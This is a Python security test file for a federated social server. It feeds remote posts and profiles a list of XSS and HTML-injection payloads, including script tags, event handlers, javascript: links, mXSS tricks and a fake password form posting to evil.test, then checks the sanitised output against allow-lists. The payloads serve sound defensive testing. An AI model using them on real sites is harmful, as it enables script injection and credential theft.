"""HTML, CSS and links that would run, load or hide something: in every text of somebody else's, as
clients get it and on our pages.
"""

import dataclasses
import re
from typing import Any

import httpx
import pytest
from selectolax.lexbor import LexborHTMLParser

from server.runtime import Runtime
from server.settings import Settings
from server.store.accounts import Account
from tests.makers import Api, make_token, run_jobs
from tests.security.stage import Stage, activity, note_of, send

EVIL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT >",
    "<style>body{background:url(//evil.test/x)}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.test)'>over all</p>",
    "<p class='u-url fixed modal btn' id='login'>looks like ours</p>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onload=x&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.test><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.test'><base href=//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<a href='javascript:alert(1)'>x</a><a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a><a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>x</script>'>x</a><a href='\x01javascript:alert(1)'>x</a>",
    "<p onclick=alert(1) onmouseover='x'>x</p><a href='https://x.test' onfocus=x autofocus>x</a>",
    "<a href='https://x.test\" onclick=\"alert(1)'>x</a>",
    "</p></div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template><video src=x onerror=x><source onerror=x>",
]
TAGS = {
    "p",
    "span",
    "br",
    "a",
    "del",
    "s",
    "pre",
    "code",
    "em",
    "strong",
    "b",
    "i",
    "u",
    "ul",
    "ol",
    "li",
    "blockquote",
}
ATTRIBUTES = {"href", "class", "rel", "target", "translate", "start", "reversed", "value", "title"}
CLASSES = re.compile(r"((h|p|u|dt|e)-[\w-]+|mention|hashtag|ellipsis|invisible|quote-inline)")
SCHEMES = re.compile(r"(https?|dat|dweb|ipfs|ipns|ssb|gopher|xmpp|magnet|gemini):|/|#|\?")


@pytest.fixture
def settings(settings: Settings) -> Settings:
    return dataclasses.replace(settings, rate_limit_factor=0.0)


def check_fragment(html: str) -> None:
    """Only what Mastodon keeps."""
    body = LexborHTMLParser(html).body
    assert body is not None
    for node in body.traverse(include_text=False):
        if node.tag == "body":
            continue
        assert node.tag in TAGS, html
        assert set(node.attributes) <= ATTRIBUTES, html
        check_link(node.attributes.get("href"))
        for name in (node.attributes.get("class") or "").split():
            assert CLASSES.fullmatch(name), html


def check_link(href: str | None) -> None:
    assert href is None or SCHEMES.match(href.strip().lower()), href


def check_page(html: str, plain: str) -> None:
    """A page of ours with it has nothing that the same page without it has not."""
    found, expected = LexborHTMLParser(html), LexborHTMLParser(plain)
    for tag in (
        "script",
        "style",
        "iframe",
        "svg",
        "form",
        "meta",
        "base",
        "link",
        "object",
        "embed",
        "template",
        "input",
        "button",
    ):
        assert len(found.css(tag)) == len(expected.css(tag)), tag
    for node in found.css("*"):
        for name, value in node.attributes.items():
            assert not name.startswith("on"), html
            assert name not in {"style", "srcdoc"}, html
            if name in {"href", "src", "action"}:
                check_link(value)


async def test_in_every_text(
    stage: Stage, runtime: Runtime, client: httpx.AsyncClient, ann: Account
) -> None:
    """CVE-2023-36459, -36462 and relatives; MA PR#6219."""
    api = Api(client, await make_token(runtime, ann))
    page = f"/@ann/{stage.post.rpartition('/')[2]}"
    number = 0

    async def answer(evil: str) -> Any:
        nonlocal number
        number += 1
        document = stage.far.actor_document(
            stage.bob,
            "bob",
            summary=evil,
            url="javascript:alert(1)",
            name=evil,
            attachment=[{"type": "PropertyValue", "name": evil, "value": evil}],
            icon={"type": "Image", "url": "javascript:alert(1)", "name": evil},
            tag=[{"type": "Emoji", "name": f":{evil}:", "icon": {"url": "javascript:alert(1)"}}],
        )
        note = note_of(
            stage.bob,
            f"evil{number}",
            evil,
            summary=evil,
            inReplyTo=stage.post,
            url="javascript:alert(1)",
            attachment=[
                {"type": "Image", "url": "javascript:alert(1)", "name": evil},
                {
                    "type": "Image",
                    "url": f"{stage.bob}/a.png",
                    "name": evil,
                    "mediaType": evil,
                    "blurhash": evil,
                },
            ],
            tag=[
                {"type": "Mention", "href": "javascript:alert(1)", "name": evil},
                {"type": "Hashtag", "href": "javascript:alert(1)", "name": f"#{evil}"},
                {"type": "Emoji", "name": ":e:", "icon": {"url": "javascript:alert(1)"}},
            ],
        )
        for what in (activity("Update", stage.bob, document), activity("Create", stage.bob, note)):
            assert (await send(client, stage.far, what, stage.bob)).status_code == 202
            await run_jobs(runtime)
        found = await runtime.db.fetchval("SELECT id FROM statuses WHERE uri = $1", note["id"])
        assert found, evil
        shown = await api.get(f"/api/v1/statuses/{found}")
        body = (await client.get(page)).text
        await runtime.db.execute("DELETE FROM statuses WHERE id = $1", found)
        return shown, body

    _, plain = await answer("harmless")
    assert "harmless" in plain
    for evil in EVIL:
        shown, html = await answer(evil)
        account = shown["account"]
        for text in (shown["content"], account["note"], *(f["value"] for f in account["fields"])):
            check_fragment(text)
        assert "javascript:" not in str(addresses_in(shown)).lower(), evil
        check_page(html, plain)


def addresses_in(value: Any) -> list[str]:
    """All that a client may take for an address."""
    if isinstance(value, list):
        return [found for one in value for found in addresses_in(one)]
    if isinstance(value, dict):
        named = [
            v
            for k, v in value.items()
            if isinstance(v, str) and (k.endswith("url") or k in {"avatar", "header", "uri"})
        ]
        return named + [found for one in value.values() for found in addresses_in(one)]
    return []
